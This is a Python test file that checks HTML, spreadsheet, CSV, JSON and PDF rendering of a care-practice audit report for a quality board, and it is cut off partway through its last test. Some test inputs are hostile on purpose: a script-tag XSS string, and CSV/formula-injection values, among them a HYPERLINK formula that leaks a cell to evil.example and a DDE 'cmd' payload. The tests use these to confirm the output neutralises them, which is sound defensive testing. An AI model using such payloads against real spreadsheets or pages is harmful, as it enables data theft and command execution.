"""The Board's report and single audits rendered as HTML, XLSX, CSV, JSON and PDF."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from practice.framework import Framework
from practice.report import (
    SMALL_NUMBERS_CAUTION,
    ActionFacts,
    AuditFacts,
    FeedbackQuote,
    ModerationPair,
    Report,
    ReportScope,
    build_report,
    cohens_kappa,
)
from reports.audit_document import AuditDocument, RatedCriterion
from reports.audit_export import render_audit_html, render_audit_pdf
from reports.html import format_percent, render_report_html
from reports.tabular import render_report_csv, render_report_xlsx, report_to_json
from tests.conftest import skip_or_fail
from tests.test_e2e_playground import CHROMIUM, CHROMIUM_FLAGS

GENERATED = date(2024, 2, 12)
NAMES = {101: "Sam Green", 102: "Priya Shah"}
SCRIPT_QUOTE = '<script>alert("x")</script> She said the worker was “lovely” & kind'
CURLY_QUOTE = "Mrs B said “she’s been brilliant” – and the family agreed."
SHEETS = [
    "Completed", "Outcomes", "Completion by role", "Completion by team", "Feedback",
    "Actions", "Moderation", "Auditor shifts", "Trend",
]  # fmt: skip


def audit(audit_id: int, ratings: dict[str, str], **extra: object) -> AuditFacts:
    values: dict[str, object] = {
        "audit_id": audit_id, "month": "2023-09", "standard": 1, "kind": "sampled",
        "status": "submitted", "due_on": date(2023, 9, 29), "submitted_on": date(2023, 9, 20),
        "auditor_id": 101 + audit_id % 4, "auditor_role": "SVM" if audit_id % 2 else "PDAP",
        "team": "Mendip" if audit_id % 2 else "Sedgemoor", "subject_id": 500 + audit_id,
        "ratings": ratings,
    }  # fmt: skip
    values.update(extra)
    return AuditFacts(**values)  # type: ignore[arg-type]


def september(audit_id: int) -> dict[str, str]:
    """Return ratings giving 1.1 4.5% below of 22, and 1.2 5% below of 20 (two left blank)."""
    first = (
        "below" if audit_id == 1
        else "meets" if audit_id <= 16
        else "exceeds" if audit_id <= 21
        else "not_applicable"
    )  # fmt: skip
    ratings = {"1.1": first, "1.3": "meets", "1.4": "meets", "1.5": "exceeds"}
    if audit_id <= 20:
        ratings["1.2"] = "below" if audit_id == 1 else "meets"
    return ratings


def the_audits() -> list[AuditFacts]:
    audits = [audit(i, september(i)) for i in range(1, 23)]
    audits[2] = audit(3, september(3), submitted_on=date(2023, 10, 4))  # late
    audits += [
        audit(23, {}, status="requested", submitted_on=None),  # not done
        audit(24, {"1.1": "meets"}, voluntary=True, kind="self", auditor_role="SW"),
        audit(25, {"1.1": "meets"}, voluntary=True, kind="self", auditor_role="SW"),
        audit(26, {"1.3": "meets"}, imported=True),  # in the outcomes, not in completion
    ]
    # Standard 1 again in October, so that its criteria have a trend.
    for audit_id, rating in ((30, "below"), (31, "below"), (32, "meets"), (33, "exceeds")):
        audits.append(
            audit(
                audit_id,
                {"1.1": rating, "1.2": "meets", "1.3": "meets", "1.4": "meets", "1.5": "meets"},
                month="2023-10", due_on=date(2023, 10, 31), submitted_on=date(2023, 10, 30),
            )
        )  # fmt: skip
    # January: the timetable's standard 4, and the Board's additional safeguarding audits.
    for audit_id in (35, 36):
        audits.append(
            audit(
                audit_id, {f"4.{n}": "exceeds" for n in range(1, 6)}, month="2024-01",
                standard=4, due_on=date(2024, 1, 31), submitted_on=date(2024, 1, 29),
            )
        )  # fmt: skip
    for audit_id in (40, 41, 42):
        audits.append(
            audit(
                audit_id, {f"8.{n}": "meets" for n in range(1, 8)}, month="2024-01",
                standard=8, additional=True, due_on=date(2024, 1, 31),
                submitted_on=date(2024, 1, 25), team="Taunton",
            )
        )  # fmt: skip
    return audits


def the_pairs() -> list[ModerationPair]:
    auditors = ["below", "meets", "meets", "meets", "exceeds", "exceeds",
                "meets", "meets", "meets", "not_applicable", "meets", "exceeds"]  # fmt: skip
    moderators = ["below", "meets", "meets", "meets", "exceeds", "meets",
                  "meets", "meets", "below", "not_applicable", "meets", "exceeds"]  # fmt: skip
    pairs = [
        ModerationPair(i + 1, 102, "1.1", a, m)
        for i, (a, m) in enumerate(zip(auditors, moderators, strict=True))
    ]
    # Sam Green's ratings are a level too generous; auditor 103's a level too harsh.
    pairs += [ModerationPair(i, 101, "1.3", "exceeds", "meets") for i in range(1, 7)]
    pairs += [ModerationPair(i, 103, "1.4", "below", "meets") for i in range(1, 6)]
    return pairs


def the_actions() -> list[ActionFacts]:
    return [
        ActionFacts(1, "Case recording", "Promote the standard transfer summary <template>",
                    "Practice Development AP", date(2024, 3, 31), "open", date(2023, 10, 20), None),
        ActionFacts(2, "Working with people", "Promote the contact leaflets", "Service managers",
                    date(2023, 12, 1), "closed", date(2023, 9, 30), date(2023, 11, 28)),
        ActionFacts(3, "Old theme", "Closed before the period", "Nobody", None, "closed",
                    date(2023, 1, 5), date(2023, 2, 1)),
    ]  # fmt: skip


def the_feedback() -> list[FeedbackQuote]:
    return [
        FeedbackQuote(1, "2023-09", 1, "Mendip", CURLY_QUOTE),
        FeedbackQuote(2, "2023-09", 1, "Sedgemoor", SCRIPT_QUOTE),
        FeedbackQuote(40, "2024-01", 8, "Taunton", "Felt safer now.\nThanked the worker."),
        FeedbackQuote(99, "2024-01", 8, "Taunton", "An audit outside the report"),
    ]


@pytest.fixture
def report(framework: Framework) -> Report:
    """Return the report for September 2023 to January 2024 over the hand-made audits."""
    return build_report(
        framework,
        first_month="2023-09",
        last_month="2024-01",
        audits=the_audits(),
        feedback=the_feedback(),
        moderation=the_pairs(),
        actions=the_actions(),
    )


@pytest.fixture
def report_dir(output_dir: Path) -> Path:
    """Return the folder for the rendered reports and their screenshots."""
    folder = output_dir / "report"
    folder.mkdir(parents=True, exist_ok=True)
    return folder


def render(report: Report) -> str:
    return render_report_html(
        report,
        title="Practice quality audits: report to the Practice Quality Board",
        generated_on=GENERATED,
        names=NAMES,
    )


# -- the figures the renderers are given ---------------------------------------------------


def test_the_hand_made_report_has_the_figures_the_tests_rely_on(report: Report) -> None:
    september_table = report.tables[0]
    assert september_table.heading == "PQF Standard 1 – Working with people (Sept 2023)"
    assert september_table.audits == 23
    first, second = september_table.criteria[:2]
    assert (first.counts["below"], first.answered, str(first.percents["below"])) == (1, 22, "4.5")
    assert (second.counts["below"], second.answered, str(second.percents["below"])) == (
        1,
        20,
        "5.0",
    )
    assert second.counts["exceeds"] == 0
    assert report.moderation[0].result.kappa is not None
    assert [s.auditor_id for s in report.auditor_shifts] == [101, 103]
    assert len(report.trend["1.1"]) == 2


def test_percentages_are_shown_as_the_board_reads_them() -> None:
    assert format_percent(Decimal("4.5")) == "4.5%"
    assert format_percent(Decimal("5.0")) == "5%"
    assert format_percent(Decimal("75.0")) == "75%"
    assert format_percent(Decimal("100.0")) == "100%"
    assert format_percent(Decimal("0.6")) == "0.6%"
    assert format_percent(Decimal("0.0")) == "-"
    assert format_percent(Decimal("0.0"), "0%") == "0%"


# -- HTML ---------------------------------------------------------------------------------


def test_html_report_has_the_boards_tables_headings_and_percentages(report: Report) -> None:
    html = render(report)

    assert html.startswith("<!DOCTYPE html>")
    assert '<html lang="en-GB">' in html
    for heading in (
        "Practice quality audits: report to the Practice Quality Board",
        "September 2023 to January 2024", "All teams", "12 February 2024",
        ">Audits completed<", ">Audit outcomes<", ">Completion<",
        ">Feedback from people and carers<", ">Learning actions<", ">Moderation<",
        ">Trend by criterion<", "PQF Standard 1 – Working with people (Sept 2023)",
        "PQF Standard 1 – Working with people (Oct 2023)",
        "PQF Standard 4 – Working with risk (Jan 2024)",
        "Safeguarding people – additional audits (Jan 2024)",
        "Auditors whose ratings moderators lowered or raised markedly",
        "Completion is known only for audits requested through the bot",
    ):  # fmt: skip
        assert heading in html, heading

    # Audits completed: the additional audits' row leaves the month blank, then the total.
    assert "Between September 2023 and January 2024, a total of 32 practice quality" in html
    rows = re.findall(r"<tr>\s*<td>([^<]*)</td>\s*<td>([^<]*)</td>\s*<td class=\"num\">(\d+)</td>", html)  # fmt: skip
    assert rows[:4] == [
        ("September 2023", "Working with people", "23"),
        ("October 2023", "Working with people", "4"),
        ("January 2024", "Working with risk", "2"),
        ("", "Safeguarding people (addition)", "3"),
    ]
    assert re.search(r"Total:</th><td class=\"num\">32</td>", html)
    assert 'Standard 1 – Working with people</td><td class="num">2</td>' in html  # voluntary

    # Percentages as seed 001 shows them, with the count behind each.
    assert '<td class="num">4.5%<span class="count">(1)</span></td>' in html
    assert '<td class="num">5%<span class="count">(1)</span></td>' in html
    assert '<td class="num">95%<span class="count">(19)</span></td>' in html
    assert '<td class="num">-<span class="count">(0)</span></td>' in html

    # One stacked bar per criterion, each with its percentages in words.
    criteria = sum(len(table.criteria) for table in report.tables)
    assert html.count('<svg class="bar" role="img"') == criteria == 22
    assert (
        'aria-label="Criterion 1.1, 22 audits: 4.5% below, 68.2% meets, 22.7% exceeds, '
        '4.5% not applicable"'
    ) in html
    for colour in ("#D55E00", "#56B4E9", "#009E73", "#D9D9D9"):
        assert colour in html

    # Feedback is free text: escaped, grouped by month, and only for audits in the report.
    assert "<script>" not in html
    assert "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;" in html
    assert "Mrs B said “she’s been brilliant” – and the family agreed." in html
    assert "Sample feedback gathered – Sept 2023" in html
    assert "Sample feedback gathered – Jan 2024" in html
    assert "An audit outside the report" not in html
    assert "&lt;template&gt;" in html  # an action's text is escaped too

    # Moderation: kappa to two decimals, a verdict where too few, names or a fallback.
    kappa = cohens_kappa([(p.auditor_rating, p.moderator_rating) for p in the_pairs()[:12]])
    assert kappa is not None
    assert f"{kappa:.2f} (" in html
    assert "Too few to judge" in html
    assert "<strong>Overall:</strong> moderators agreed with" in html
    assert '<th scope="row">Sam Green</th>' in html
    assert '<th scope="row">Auditor 103</th>' in html
    assert "Lowered their ratings" in html
    assert "Raised their ratings" in html

    # Trend: criterion 1.1 went from 4.5% below in September to 50% in October.
    assert 'aria-label="Trend for criterion 1.1.' in html
    assert "Oct 2023: 50% meets or exceeds, 50% below" in html

    # Accessibility and self-containment.
    assert html.count("<table") == html.count("<caption")
    assert "<th>" not in html  # every header cell says whether it heads a row or a column
    assert not re.search(r"(src|href)=\"(https?:)?//", html)
    assert "@import" not in html
    assert "url(" not in html
    assert "@page { size: A4" in html
    assert "break-before: page" not in html  # sections follow on when printed
    assert "break-inside: avoid" in html


def test_html_report_says_when_a_section_has_no_data(framework: Framework) -> None:
    empty = build_report(framework, first_month="2024-03", last_month="2024-03", audits=[])
    html = render(empty)
    for sentence in (
        "No requested audits were completed in this period.",
        "no outcomes to show",
        "No audits were requested through the bot in this period.",
        "No feedback suitable for reporting was recorded in this period.",
        "No learning actions were open in this period.",
        "No audits in this period were moderated.",
        "No auditor's ratings were lowered or raised markedly",
        "there is no trend to show",
        "No voluntary audits were completed in this period.",
    ):
        assert sentence in html, sentence
    assert "March 2024" in html


def test_html_report_of_one_month_says_the_trend_needs_more_months(
    framework: Framework,
) -> None:
    one_month = build_report(
        framework, first_month="2023-09", last_month="2023-09", audits=the_audits()
    )
    html = render(one_month)
    assert "The trend needs more than one month" in html
    assert "In September 2023, 23 practice quality audits were completed." in html


def test_a_month_of_additional_audits_only_still_shows_its_month(framework: Framework) -> None:
    additional = [a for a in the_audits() if a.additional]
    html = render(
        build_report(framework, first_month="2024-01", last_month="2024-01", audits=additional)
    )
    assert "<td>January 2024</td>\n          <td>Safeguarding people (addition)</td>" in html


@pytest.mark.browser
async def test_html_report_in_chromium_loads_nothing_from_outside(
    report: Report, report_dir: Path
) -> None:
    html = render(report)
    (report_dir / "report.html").write_text(html, encoding="utf-8")
    outside, facts = await screenshot(html, report_dir / "report.png", width=1200)
    assert outside == []
    assert facts["lang"] == "en-GB"
    assert facts["bars"] == 22
    assert (report_dir / "report.png").stat().st_size > 50_000

    # On a phone the page itself does not scroll sideways: wide tables scroll in their box.
    outside, facts = await screenshot(html, report_dir / "report-phone.png", width=390)
    assert outside == []
    assert facts["scroll_width"] <= 390
    assert (report_dir / "report-phone.png").stat().st_size > 20_000


async def screenshot(html: str, path: Path, *, width: int) -> tuple[list[str], dict[str, object]]:
    """Render the page in headless Chromium; return what it requested from outside, and facts."""
    if not shutil.which(CHROMIUM):
        skip_or_fail("PQF_REQUIRE_BROWSER", f"Chromium is not installed at {CHROMIUM}")
    from playwright.async_api import async_playwright

    requested: list[str] = []
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_FLAGS)
        try:
            page = await browser.new_page(viewport={"width": width, "height": 900})
            page.on("request", lambda request: requested.append(request.url))
            await page.set_content(html, wait_until="networkidle")
            await page.screenshot(path=path, full_page=True)
            facts = await page.evaluate(
                """() => ({
                    lang: document.documentElement.lang,
                    bars: document.querySelectorAll('svg.bar[role="img"][aria-label]').length,
                    scroll_width: document.documentElement.scrollWidth,
                })"""
            )
        finally:
            await browser.close()
    return [url for url in requested if not url.startswith(("data:", "about:"))], facts


# -- XLSX, CSV, JSON ----------------------------------------------------------------------


def test_xlsx_has_a_sheet_per_table_with_numbers_formatted(
    report: Report, report_dir: Path
) -> None:
    data = render_report_xlsx(report, names=NAMES)
    (report_dir / "report.xlsx").write_bytes(data)
    workbook = load_workbook(io.BytesIO(data))

    assert workbook.sheetnames == SHEETS
    for sheet in workbook.worksheets:
        assert sheet.freeze_panes == "A2", sheet.title
        assert all(cell.font.bold for cell in sheet[1] if cell.value is not None), sheet.title

    outcomes = workbook["Outcomes"]
    header = [cell.value for cell in outcomes[1]]
    row = next(
        r for r in outcomes.iter_rows(min_row=2)
        if r[header.index("Criterion")].value == "1.1" and r[header.index("Month")].value == "2023-09"
    )  # fmt: skip
    below = row[header.index("Below %")]
    assert below.value == pytest.approx(0.045)
    assert below.number_format == "0.0%"
    assert row[header.index("Below")].value == 1
    assert row[header.index("Answered")].value == 22
    assert row[header.index("Text")].value.startswith("There is evidence from the records")

    completed = workbook["Completed"]
    last = [cell.value for cell in completed[completed.max_row]]
    assert last[0] == "Total"
    assert last[5] == 32
    assert last[6:] == [32, 0, 0]  # sampled, self, peer
    assert completed.cell(completed.max_row, 1).font.bold
    assert ["voluntary", 2] in [[c.value for c in r][4:6] for r in completed.iter_rows(min_row=2)]

    shifts = workbook["Auditor shifts"]
    assert shifts["B2"].value == "Sam Green"
    assert shifts["F2"].value == -1.0
    actions = workbook["Actions"]
    # Standard 1's theme ("Working with people") sorts before the free-text theme.
    assert actions["B2"].value == "Working with people"
    assert actions["E3"].value.date() == date(2024, 3, 31)
    assert workbook["Outcomes"].column_dimensions["G"].width == 60  # long text wraps


def test_csv_has_sections_with_headers_and_rows(report: Report, report_dir: Path) -> None:
    data = render_report_csv(report, names=NAMES)
    (report_dir / "report.csv").write_bytes(data)
    assert data.startswith(b"\xef\xbb\xbf")  # Excel then reads it as UTF-8
    text = data.decode("utf-8-sig")
    sections: dict[str, list[list[str]]] = {}
    current: list[list[str]] = []
    for row in csv.reader(io.StringIO(text)):
        if len(row) == 1 and row[0].startswith("# "):
            current = sections.setdefault(row[0][2:], [])
        elif row:
            current.append(row)

    assert list(sections) == ["Report", *SHEETS]
    assert ["Period", "September 2023 to January 2024"] in sections["Report"]
    header, *rows = sections["Outcomes"]
    found = [dict(zip(header, r, strict=True)) for r in rows]
    first = next(r for r in found if r["Criterion"] == "1.1" and r["Month"] == "2023-09")
    assert (first["Below"], first["Below %"], first["Meets %"], first["Additional"]) == (
        "1", "4.5", "68.2", "no",
    )  # fmt: skip
    second = next(r for r in found if r["Criterion"] == "1.2" and r["Month"] == "2023-09")
    assert (second["Answered"], second["Below %"], second["Exceeds %"]) == ("20", "5.0", "0.0")
    feedback = [
        dict(zip(sections["Feedback"][0], r, strict=True)) for r in sections["Feedback"][1:]
    ]
    assert SCRIPT_QUOTE in [r["Feedback"] for r in feedback]  # CSV is data: not HTML-escaped
    moderation = sections["Moderation"]
    assert moderation[-1][0] == "Overall"
    assert re.fullmatch(r"-?\d\.\d\d", moderation[1][5])
    assert sections["Actions"][2][4] == "2024-03-31"
    assert text.count("\r\n\r\n") == len(SHEETS) + 1  # a blank line ends every section


HOSTILE = '=HYPERLINK("http://evil.example/?leak="&B2,"Feedback")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?")


def formula_cells(xlsx: bytes) -> list[str]:
    """Return every formula the workbook holds (from its XML: what Excel would compute)."""
    import zipfile

    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        return [f for n in sheets for f in re.findall(r"<f>(.*?)</f>", archive.read(n).decode())]


def csv_formulas(data: bytes) -> list[str]:
    """Return every CSV cell a spreadsheet would read as a formula (numbers aside)."""
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    return [
        cell
        for row in rows
        for cell in row
        if cell.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(cell)
    ]


def hostile_report(framework: Framework, words: str) -> tuple[Report, dict[int, str]]:
    """Return a report whose every free-text field (team, name, feedback, action) is `words`."""
    audits = [
        audit(i, september(i), team=words if i % 2 else "Mendip", auditor_id=101)
        for i in range(1, 12)
    ]
    return build_report(
        framework, first_month="2023-09", last_month="2023-09", audits=audits,
        feedback=[FeedbackQuote(1, "2023-09", 1, words, words)],
        moderation=[ModerationPair(i, 101, "1.3", "exceeds", "below") for i in range(1, 7)],
        actions=[ActionFacts(1, words, words, words, None, words, date(2023, 9, 1), None)],
    ), {101: words}  # fmt: skip


@pytest.mark.parametrize("words", [HOSTILE, "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
                                   "\t=1+1", "\r=1+1"])  # fmt: skip
def test_exports_hold_no_formula_from_anything_people_typed(
    framework: Framework, words: str
) -> None:
    report, names = hostile_report(framework, words)
    xlsx = render_report_xlsx(report, names=names)
    assert formula_cells(xlsx) == []
    workbook = load_workbook(io.BytesIO(xlsx))
    texts = [c.value for ws in workbook.worksheets for r in ws.iter_rows() for c in r]
    # Team, name, feedback, action: kept as typed (XML reads a carriage return as a new line).
    assert texts.count(words.replace("\r", "\n")) >= 5
    data = render_report_csv(report, names=names)
    assert csv_formulas(data) == []
    cells = [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]
    assert cells.count(f"'{words}") >= 5  # shown as text, with nothing lost
    # Negative numbers stay numbers: the shift of the auditor the moderators marked down.
    assert "-2.00" in cells


def test_json_is_serialisable_with_stable_keys(report: Report) -> None:
    data = report_to_json(report, names=NAMES)
    text = json.dumps(data, ensure_ascii=False)
    assert json.loads(text) == data

    assert data["version"] == 1
    assert data["period"] == {
        "first_month": "2023-09", "last_month": "2024-01",
        "label": "September 2023 to January 2024",
    }  # fmt: skip
    assert data["completed"]["total"] == 32
    assert data["completed"]["voluntary"] == [{"standard": 1, "completed": 2}]
    criterion = data["outcomes"][0]["criteria"][0]
    assert criterion["criterion_id"] == "1.1"
    assert criterion["percents"] == {
        "below": 4.5, "meets": 68.2, "exceeds": 22.7, "not_applicable": 4.5,
    }  # fmt: skip
    assert criterion["counts"]["meets"] == 15
    assert '"below": 4.5' in text
    assert '"exceeds": 0.0' in text
    assert data["actions"][1]["due_on"] == "2024-03-31"
    assert data["actions"][0]["closed_on"] == "2023-11-28"
    assert data["moderation"]["auditor_shifts"][0]["auditor"] == "Sam Green"
    assert data["moderation"]["auditor_shifts"][1]["auditor"] == "Auditor 103"
    assert isinstance(data["moderation"]["criteria"][0]["kappa"], float)
    assert data["moderation"]["criteria"][1]["kappa"] is None
    assert data["trend"]["1.1"][1]["percents"]["below"] == 50.0
    assert data["trend"]["1.1"][1]["meets_or_exceeds"] == 50.0
    assert set(data["completion"]["by_role"][0]) == {
        "group", "requested", "on_time", "late", "not_done", "still_open", "rate",
    }  # fmt: skip


# -- one audit for the supervision file ---------------------------------------------------

EVIDENCE = (
    "The assessment records Mrs B’s own goals: “to get back to the allotment”.\n"
    "<b>Not bold</b> & the carer’s view – recorded on 3 Nov."
)


def an_audit(framework: Framework) -> AuditDocument:
    standard = framework.standard(3)
    assert standard is not None
    answers = [
        RatedCriterion(
            criterion.id,
            criterion.text,
            ("Meets", "Exceeds", "Below", "N/A")[index % 4],
            EVIDENCE
            if index == 0
            else f"Evidence for {criterion.id}. " * (40 if index == 3 else 2),
        )
        for index, criterion in enumerate(standard.criteria)
    ]
    answers[1] = RatedCriterion(
        answers[1].criterion_id, answers[1].text, "Exceeds", "Good family work",
        "Moderator: Meets", "The plan’s goals were the worker’s, not the person’s.",
    )  # fmt: skip
    answers[2] = RatedCriterion(answers[2].criterion_id, answers[2].text, "Below", "", "Agreed")
    return AuditDocument(
        audit_id=4242, standard_number=3, standard_title=standard.title, kind="case audit",
        month_label="November 2026", about="case 4100107", team="Mendip",
        auditor_name="Megan Bowen", worker_name="Alex Wilber", submitted_on=date(2026, 11, 27),
        due_on=date(2026, 11, 30), criteria=answers, feedback_who="Their carer",
        feedback_said="“Alex listened” <i>really</i>", involvement="Discussed in person",
        involvement_detail="25 November 2026", moderator_name="Lynne Robinson",
        moderation_comment="A fair audit; see 3.2 & 3.3.",
    )  # fmt: skip


def test_audit_html_escapes_free_text(framework: Framework, report_dir: Path) -> None:
    html = render_audit_html(an_audit(framework))
    (report_dir / "audit.html").write_text(html, encoding="utf-8")

    assert '<html lang="en-GB">' in html
    assert "Audit 4242: Standard 3 – Strengths-based assessments" in html
    assert "<b>Not bold</b>" not in html
    assert "&lt;b&gt;Not bold&lt;/b&gt;" in html
    assert "Mrs B’s own goals: “to get back to the allotment”." in html
    assert "&amp; the carer’s view – recorded on 3 Nov." in html
    assert "“Alex listened” &lt;i&gt;really&lt;/i&gt;" in html
    assert "Moderator: Meets – The plan’s goals were the worker’s, not the person’s." in html
    assert "A fair audit; see 3.2 &amp; 3.3." in html
    assert "The assessment seeks to understand the person’s needs" in html
    assert '<th scope="row">Worker</th><td>Alex Wilber</td>' in html
    assert "2 of 2 moderated" not in html
    assert "1 of 2 moderated" in html
    assert "None recorded" in html
    assert html.count('<section class="criterion"') == 8


def test_audit_pdf_keeps_typographic_characters(framework: Framework, report_dir: Path) -> None:
    from pypdf import PdfReader

    data = render_audit_pdf(an_audit(framework))
    (report_dir / "audit.pdf").write_bytes(data)
    assert data.startswith(b"%PDF")
    assert render_audit_pdf(an_audit(framework)) == data  # no clock in the file

    reader = PdfReader(io.BytesIO(data))
    pages = [" ".join(page.extract_text().split()) for page in reader.pages]
    text = " ".join(pages)
    assert len(pages) >= 2
    assert "The assessment seeks to understand the person’s needs" in text
    assert "Audit 4242: Standard 3 – Strengths-based assessments" in text
    assert "“to get back to the allotment”" in text
    assert "<b>Not bold</b> & the carer’s view – recorded on 3 Nov." in text
    assert "Moderator: Meets – The plan’s goals were the worker’s, not the person’s." in text
    assert "Lynne Robinson" in text
    assert "A fair audit; see 3.2 & 3.3." in text
    for number, page in enumerate(pages, start=1):
        assert f"Audit 4242 Page {number} of {len(pages)}" in page


@pytest.mark.browser
async def test_audit_html_in_chromium(framework: Framework, report_dir: Path) -> None:
    html = render_audit_html(an_audit(framework))
    outside, facts = await screenshot(html, report_dir / "audit.png", width=900)
    assert outside == []
    assert facts["lang"] == "en-GB"
    assert (report_dir / "audit.png").stat().st_size > 30_000


def test_a_team_of_fewer_than_five_audits_carries_the_caution_in_every_format(
    framework: Framework,
) -> None:
    audits = [audit(n, {"1.1": "meets"}, team="Mendip") for n in range(1, 6)]
    audits += [audit(n, {"1.1": "below"}, team="Sedgemoor") for n in range(6, 9)]
    whole = build_report(framework, first_month="2023-09", last_month="2023-09", audits=audits)
    html = render(whole)
    assert html.count(SMALL_NUMBERS_CAUTION) == 1  # Sedgemoor's row, not Mendip's
    team_sheet = load_workbook(io.BytesIO(render_report_xlsx(whole, names=NAMES)))[
        "Completion by team"
    ]
    assert [row[-1] for row in team_sheet.iter_rows(values_only=True)] == [
        "Caution", None, SMALL_NUMBERS_CAUTION,
    ]  # fmt: skip
    by_team = report_to_json(whole, names=NAMES)["completion"]["by_team"]
    assert [row["caution"] for row in by_team] == [None, SMALL_NUMBERS_CAUTION]
    assert report_to_json(whole, names=NAMES)["caution"] is None

    sedgemoor = build_report(
        framework, first_month="2023-09", last_month="2023-09", audits=audits,
        scope=ReportScope("Sedgemoor", teams=frozenset({"Sedgemoor"})),
    )  # fmt: skip
    assert f'<dd class="caution">{SMALL_NUMBERS_CAUTION}</dd>' in render(sedgemoor)
    lines = render_report_csv(sedgemoor, names=NAMES).decode("utf-8-sig").splitlines()
    assert f"Caution,{SMALL_NUMBERS_CAUTION}" in lines
    assert report_to_json(sedgemoor, names=NAMES)["caution"] == SMALL_NUMBERS_CAUTION


def test_actions_are_grouped_by_standard_name_in_number_order(framework: Framework) -> None:
    actions = [
        ActionFacts(1, "10", "Supervision notes", "PDAP", None, "open", date(2023, 9, 1), None),
        ActionFacts(2, "Transitions", "Transfer summary", "PDAP", None, "open",
                    date(2023, 9, 1), None),
        ActionFacts(5, "case recording", "Recording rules", "PDAP", None, "open",
                    date(2023, 9, 1), None),
        ActionFacts(3, "2", "Contact leaflets", "SVM", None, "open", date(2023, 9, 1), None),
        ActionFacts(4, "Standard 2", "Carers' leaflets", "SVM", None, "open",
                    date(2023, 9, 1), None),
    ]  # fmt: skip
    report = build_report(
        framework, first_month="2023-09", last_month="2023-09", audits=[], actions=actions
    )
    assert [(a.id, a.theme) for a in report.actions] == [
        (3, "Case recording"), (4, "Case recording"), (5, "Case recording"),
        (1, "Supervision"), (2, "Transitions"),
    ]  # fmt: skip
    html = render(report)
    headings = re.findall(r"<h3>([^<]*)</h3>", html.split('id="actions"')[1].split("</section>")[0])
    # A theme typed as the standard's name in other letter case joins it.
    assert headings == ["Case recording", "Supervision", "Transitions"]


def test_audits_completed_are_counted_by_kind_in_every_format(framework: Framework) -> None:
    audits = [audit(1, {"1.1": "meets"}), audit(2, {"1.1": "meets"}, kind="self")]
    audits += [audit(3, {"1.1": "below"}, kind="self")]
    audits += [audit(4, {"8.1": "meets"}, month="2024-01", standard=8, additional=True)]
    report = build_report(framework, first_month="2023-09", last_month="2024-01", audits=audits)
    html = render(report)
    table = html.split("Audits completed by month and audit focus")[1].split("</table>")[0]
    assert "Case audits (sampled)" in table
    assert "Self audits" in table
    assert "Peer audits" not in table  # no peer audits in the period: no empty column
    cells = re.findall(r'<td class="num">(\d+)</td>', table)
    assert cells == ["1", "2", "3", "1", "0", "1", "2", "2", "4"]
    rows = report_to_json(report, names=NAMES)["completed"]["rows"]
    assert [row["by_kind"] for row in rows] == [
        {"sampled": 1, "self": 2, "peer": 0}, {"sampled": 1, "self": 0, "peer": 0},
    ]  # fmt: skip
    sections = render_report_csv(report, names=NAMES).decode("utf-8-sig").split("\r\n\r\n")
    completed = next(s for s in sections if s.startswith("# Completed")).splitlines()
    assert completed[1].endswith("Audits completed,Sampled,Self,Peer")
    assert completed[-1] == "Total,,,,,4,2,2,0"


def test_quotes_come_by_month_with_those_of_additional_audits_apart(
    framework: Framework,
) -> None:
    audits = [
        audit(1, {"4.1": "meets"}, month="2024-01", standard=4),
        audit(2, {"8.1": "meets"}, month="2024-01", standard=8, additional=True),
        audit(3, {"1.1": "meets"}),
    ]
    quotes = [
        FeedbackQuote(2, "2024-01", 8, "Mendip", "I feel safer now", additional=True),
        FeedbackQuote(1, "2024-01", 4, "Sedgemoor", "They listened"),
        FeedbackQuote(3, "2023-09", 1, "Mendip", "Very kind"),
    ]
    report = build_report(
        framework, first_month="2023-09", last_month="2024-01", audits=audits, feedback=quotes
    )
    part = render(report).split('id="feedback"')[1].split("</section>")[0]
    assert re.findall(r"<h3>([^<]*)</h3>", part) == [
        "Sample feedback gathered – Sept 2023",
        "Sample feedback gathered – Jan 2024",
        "Sample feedback gathered – Jan 2024: Safeguarding people (addition)",
    ]
    assert part.index("They listened") < part.index("I feel safer now")


# -- printed on A4 ------------------------------------------------------------------------

# A4's text width at 96 CSS pixels to the inch, inside the page's 12 mm side margins.
A4_TEXT_WIDTH = round((210 - 2 * 12) / 25.4 * 96)
NEAR_BLANK = 0.15  # a page whose text reaches less far down than this is near blank


def page_fills(pdf: bytes) -> list[float]:
    """Return how far down each page its text reaches, as a share of the page's height."""
    from pypdf import PdfReader

    fills = []
    for page in PdfReader(io.BytesIO(pdf)).pages:
        heights: list[float] = []  # of each piece of text, up from the page's foot

        def visit(text: str, cm: list[float], tm: list[float], *_: object) -> None:
            if text.strip():
                heights.append(tm[5] * cm[3] + cm[5])  # noqa: B023 (called at once, below)

        page.extract_text(visitor_text=visit)
        height = float(page.mediabox.top)
        fills.append(round((height - min(heights, default=height)) / height, 2))
    return fills


async def printed(html: str) -> tuple[bytes, float]:
    """Print the page to A4 in Chromium; return the PDF and how far the widest table overflows."""
    if not shutil.which(CHROMIUM):
        skip_or_fail("PQF_REQUIRE_BROWSER", f"Chromium is not installed at {CHROMIUM}")
    from playwright.async_api import async_playwright

    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_FLAGS)
        try:
            page = await browser.new_page(viewport={"width": A4_TEXT_WIDTH, "height": 1000})
            await page.set_content(html, wait_until="networkidle")
            pdf = await page.pdf(format="A4", prefer_css_page_size=True, print_background=True)
            await page.emulate_media(media="print")
            overflow = await page.evaluate(
                """() => Math.max(0, ...[...document.querySelectorAll('table')].map(
                    t => t.getBoundingClientRect().right - document.documentElement.clientWidth))"""
            )
        finally:
            await browser.close()
    return pdf, float(overflow)


@pytest.mark.browser
@pytest.mark.parametrize(
    ("first", "last", "most_pages"),
    [("2023-09", "2023-09", 4), ("2024-01", "2024-01", 4), ("2023-09", "2024-01", 8)],
)
async def test_the_printed_report_has_no_near_blank_page_and_tables_fit_a4(
